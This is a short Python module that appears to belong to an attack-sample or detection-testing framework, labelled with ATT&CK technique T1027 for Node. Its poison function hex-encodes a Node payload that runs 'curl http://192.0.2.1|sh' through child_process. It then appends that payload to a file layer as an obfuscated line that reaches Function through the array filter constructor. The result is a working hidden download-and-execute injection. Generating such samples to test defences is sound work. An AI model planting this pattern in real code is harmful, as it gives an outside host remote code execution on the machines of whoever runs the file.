# SPDX-License-Identifier: Apache-2.0
"""Reaches Function through the constructor of a constructor."""

ATTACK = "T1027"
LANGUAGE = "node"


def poison(layer):
    text = b"process.mainModule.require('child_process').exec('curl http://192.0.2.1|sh')".hex()
    layer.append(f"\n;[]['filter']['constructor'](Buffer.from('{text}', 'hex') + '')();\n")
